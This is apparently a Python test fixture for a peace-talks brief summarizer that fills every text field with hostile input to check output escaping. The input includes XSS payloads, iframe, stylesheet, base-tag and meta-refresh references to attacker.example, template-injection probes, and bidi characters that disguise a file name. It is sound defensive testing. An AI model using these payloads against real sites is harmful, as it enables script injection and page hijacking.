"""A brief whose every free text attacks: script, attributes, formulas, templates, bidi."""

from __future__ import annotations

from summarizer.brief import PeaceTalksBrief, Warning
from summarizer.vocabulary import Response
from tests.factories import (
    attempt,
    make_brief,
    make_provenance,
    make_source,
    offer,
    partial,
    party,
    question,
    red_line,
    response,
    statement,
    step,
    unsupported,
    voice,
)

ATTACK = (
    "</script><script>window.owned=1</script>\"'><img src=x onerror=window.owned=1>"
    "<svg/onload=window.owned=1><a href=javascript:window.owned=1>go</a>"
    "<iframe src=//attacker.example></iframe></style><style>*{display:none}</style>"
    "<link rel=stylesheet href=https://attacker.example/x.css>{{7*7}}{% raw %}${7*7}<!--"
    "<base href=//attacker.example><meta http-equiv=refresh content=0;url=//attacker.example>"
    " javascript:window.owned=1 \u202egnp.exe\u202c \u2066end"
)
NAME = 'Front"><script>window.owned=1</script>'


def hostile() -> PeaceTalksBrief:
    """One of everything, all of it attacks."""
    return make_brief(
        title=ATTACK,
        sources=[make_source([ATTACK, f"And {ATTACK}"], origin=ATTACK, title=ATTACK,
                             publisher=ATTACK, language='en"><script>window.owned=1</script>')],
        bottom_line=[statement(ATTACK)],
        parties=[party(NAME, aliases=[ATTACK], people=[(ATTACK, ATTACK)])],
        offers=[
            offer(ATTACK, by=[NAME], to=[NAME], conditions=[ATTACK], deadline=ATTACK,
                  responses=[response(NAME, Response.REJECTS, cites=[2])], support=partial(ATTACK),
                  speaker=ATTACK, speaks_for=NAME),
            offer(f"x {ATTACK}", by=[NAME], support=unsupported(ATTACK)),
        ],
        red_lines=[red_line(ATTACK, held_by=NAME, speaker=ATTACK, speaks_for=NAME)],
        open_questions=[question(ATTACK, parties=[NAME], speaker=ATTACK, speaks_for=NAME)],
        next_steps=[step(ATTACK, parties=[NAME], when=ATTACK, speaker=ATTACK, speaks_for=NAME)],
        outside_voices=[voice(ATTACK, speaker=ATTACK)],
        provenance=make_provenance(
            model=ATTACK,
            prompt_version=ATTACK,
            attempts=[attempt(outcome=ATTACK, message=ATTACK)],
            warnings=[Warning(kind="dropped", where=ATTACK, message=ATTACK)],
        ),
    )  # fmt: skip
